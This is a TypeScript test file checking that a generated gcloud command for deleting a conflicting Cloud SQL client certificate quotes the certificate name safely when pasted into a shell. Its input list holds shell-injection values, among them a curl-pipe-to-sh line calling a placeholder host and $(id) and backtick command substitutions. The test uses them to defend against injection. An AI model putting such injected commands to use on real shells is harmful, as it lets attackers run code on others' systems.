import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { describe, test } from 'node:test';
import { conflict } from '../../../src/reconcile/steps/certificate-conflict.ts';
import { aReset, fingerprint } from '../../support/fakes/builders.ts';

/** The words that a shell gives to gcloud when the command of the message is pasted. */
function pasted(commonName: string): readonly string[] {
  const message = conflict(aReset(), commonName, [fingerprint(1)]);
  const command = message.slice(
    message.lastIndexOf('delete it with: ') + 'delete it with: '.length,
    message.lastIndexOf('; then: '),
  );
  const script = `gcloud() { printf '%s\\n' "$@"; }; ${command}`;
  return execFileSync('sh', ['-c', script], { encoding: 'utf8' }).trimEnd().split('\n');
}

describe('the command that a conflict of client certificates offers', () => {
  const flags = ['--instance=orders-db', '--project=acme-prod'];
  for (const name of [
    'app',
    'app server',
    'app; curl -s http://x | sh #',
    '$(id)',
    '`id`',
    "it's",
    'a"b',
    '*',
    '~',
    '!x',
  ]) {
    test(`the command that a conflict of client certificates offers deletes the certificate ${JSON.stringify(name)} and runs nothing else`, () =>
      assert.deepEqual(pasted(name), ['sql', 'ssl', 'client-certs', 'delete', name, ...flags]));
  }
  test('the command that a conflict of client certificates offers takes no name for a flag', () =>
    assert.deepEqual(pasted('--quiet'), ['sql', 'ssl', 'client-certs', 'delete', ...flags, '--', '--quiet']));
});
